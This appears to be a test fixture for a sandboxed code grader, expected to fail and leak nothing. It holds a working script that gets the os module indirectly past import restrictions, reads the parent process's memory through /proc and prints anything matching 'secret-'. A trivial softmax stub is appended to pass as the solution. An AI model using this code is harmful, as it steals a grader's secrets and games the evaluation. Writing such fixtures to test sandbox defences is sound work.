# expect: status=failed score=0 leaks=nothing
"""Goes through /proc/PARENT/mem, page by page, for anything that looks like a key."""

import dataclasses

sys = dataclasses.sys
os = sys.modules["os"]


def search():
    parent = os.getppid()
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            start, end = (int(number, 16) for number in span.split("-"))
            if not rights.startswith("rw") or end - start > 1 << 26:
                continue
            try:
                memory.seek(start)
                content = memory.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            at = content.find(b"secret-")
            if at >= 0:
                print(content[at : at + 60])


try:
    search()
except OSError as error:
    print(error)


def softmax(x, axis=-1):
    return x
